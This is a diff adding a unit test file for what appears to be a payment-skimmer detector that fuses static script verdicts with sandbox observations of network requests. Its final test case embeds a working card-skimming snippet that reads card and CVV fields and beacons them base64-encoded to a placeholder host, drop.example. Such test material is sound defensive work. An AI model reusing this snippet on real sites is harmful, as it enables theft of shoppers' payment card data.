@@ -1,0 +1,109 @@
+import { describe, expect, it } from 'vitest'
+import type { Observation, ObservedRequest, ScriptVerdict } from '../../core/types.ts'
+import { analyzeScript } from '../../detector/index.ts'
+import { fuseVerdict } from '../../detector/fuse.ts'
+
+// Fusion as data: a static verdict and what the chamber saw, the verdict that must come out.
+
+const clean: ScriptVerdict = {
+  sha256: 'x'.repeat(64),
+  verdict: 'clean',
+  score: 0,
+  findings: [],
+  rulesVersion: 't',
+}
+
+function obs(requests: Partial<ObservedRequest>[], extra: Partial<Observation> = {}): Observation {
+  return {
+    sha256: clean.sha256,
+    chamberVersion: 't',
+    status: 'ok',
+    reason: null,
+    pages: ['https://shop.example/checkout/'],
+    reads: [],
+    listeners: [],
+    requests: requests.map((r) => ({
+      url: 'https://shop.example/',
+      method: 'GET',
+      type: 'image',
+      body: null,
+      carriesCard: false,
+      carriesPersonal: false,
+      encodings: [],
+      ...r,
+    })),
+    injected: [],
+    compiled: [],
+    storage: [],
+    probes: [],
+    ...extra,
+  }
+}
+
+const inspect = (code: string): ScriptVerdict => analyzeScript(code, { url: null })
+
+const CASES: { name: string; o: Observation; verdict: string; rule?: string }[] = [
+  {
+    name: 'the card leaving for another host through a CSS url() is malicious',
+    o: obs([
+      {
+        url: 'https://fonts-cdn.example/x.css?d=NDEx',
+        type: 'css',
+        carriesCard: true,
+        encodings: ['base64'],
+      },
+    ]),
+    verdict: 'malicious',
+    rule: 'observed-card-exfil',
+  },
+  {
+    name: 'the card posted to the shop itself is not exfiltration',
+    o: obs([{ url: 'https://shop.example/api/checkout', type: 'fetch', carriesCard: true }]),
+    verdict: 'clean',
+  },
+  {
+    name: 'the card sent to a listed processor is normal',
+    o: obs([{ url: 'https://api.stripe.com/v1/tokens', type: 'xhr', carriesCard: true }]),
+    verdict: 'clean',
+  },
+  {
+    name: 'the card sent to a lookalike of a processor is malicious',
+    o: obs([{ url: 'https://api.stripe-cdn.example/v1/t', type: 'xhr', carriesCard: true }]),
+    verdict: 'malicious',
+    rule: 'observed-card-exfil',
+  },
+  {
+    name: 'personal data to another host is suspicious',
+    o: obs([{ url: 'https://collect.example/p', type: 'beacon', carriesPersonal: true }]),
+    verdict: 'suspicious',
+    rule: 'observed-personal-exfil',
+  },
+  {
+    name: 'a request carrying nothing after no card read stays clean',
+    o: obs([{ url: 'https://cdn.example/lib.js', type: 'script' }]),
+    verdict: 'clean',
+  },
+  {
+    name: 'code compiled at run time is judged as a layer',
+    o: obs([], {
+      compiled: [
+        {
+          how: 'eval',
+          source:
+            "var f=document.querySelectorAll('input[name*=card],input[name*=cvv]');var d=[];for(var i=0;i<f.length;i++)d.push(f[i].value);new Image().src='https://drop.example/c?d='+btoa(d.join('|'))",
+        },
+      ],
+    }),
+    verdict: 'malicious',
+  },
+]
+
+describe('fusion of static verdict and observation', () => {
+  for (const c of CASES)
+    it(c.name, () => {
+      const v = fuseVerdict(clean, c.o, inspect)
+      expect(v.verdict).toBe(c.verdict)
+      if (c.rule) expect(v.findings.map((f) => f.rule)).toContain(c.rule)
+      for (const f of v.findings) expect(f.message.length).toBeGreaterThan(0)
+    })
+})
